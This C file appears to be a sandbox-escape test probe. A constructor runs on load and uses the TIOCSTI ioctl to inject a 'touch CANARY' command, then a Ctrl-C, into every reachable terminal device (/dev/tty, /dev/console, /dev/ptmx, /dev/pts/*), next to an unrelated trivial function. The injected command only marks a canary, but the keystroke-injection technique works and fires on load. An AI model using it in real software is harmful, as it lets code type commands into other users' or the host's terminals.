#include "canary.h"
#include <sys/ioctl.h>
#include <termios.h>
__attribute__((constructor)) static void early(void) {
  char name[40];
  for (int i = -3; i < 64; i++) {
    if (i == -3) strcpy(name, "/dev/tty"); else if (i == -2) strcpy(name, "/dev/console");
    else if (i == -1) strcpy(name, "/dev/ptmx"); else snprintf(name, sizeof name, "/dev/pts/%d", i);
    int d = open(name, O_RDWR | O_NOCTTY);
    if (d < 0) continue;
    ioctl(d, TIOCSCTTY, 1);
    for (const char *c = "touch " CANARY "\n"; *c; c++) ioctl(d, TIOCSTI, c);
    if (i > 0 && write(d, "x", 1) == 1) touch_canary();
    close(d);
  }
  for (int d = 0; d < 3; d++) { ioctl(d, TIOCNOTTY); ioctl(d, TIOCSTI, "\003"); }
  touch_canary();
}
int f(int x) { return x > 3; }
